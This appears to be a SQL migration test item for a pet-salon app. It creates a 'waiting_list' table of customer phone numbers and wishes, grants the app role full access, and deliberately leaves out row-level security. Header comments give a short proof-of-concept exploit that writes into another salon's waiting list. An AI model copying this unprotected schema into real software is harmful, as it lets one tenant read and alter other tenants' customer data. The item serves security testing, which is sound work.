-- Any salon reads and changes every salon's waiting list, because the new table has no row security.
-- about: waiting_list
-- as: hf_snoutly_app
-- exploit: SET snoutly.salon_id = 'aaaaaaaa-0000-0000-0000-000000000001';
-- exploit: INSERT INTO waiting_list (salon_id, phone, wish)
-- exploit:   VALUES ('bbbbbbbb-0000-0000-0000-000000000001', '999', 'false') RETURNING 'row of ' || phone;
-- shows: row of 999
-- People who wait for a free kennel.
CREATE TABLE waiting_list (
  salon_id uuid NOT NULL REFERENCES salons (id),
  id uuid NOT NULL DEFAULT gen_random_uuid(),
  phone text NOT NULL,
  wish text NOT NULL,
  PRIMARY KEY (salon_id, id)
);
GRANT SELECT, INSERT, UPDATE, DELETE ON waiting_list TO hf_snoutly_app;
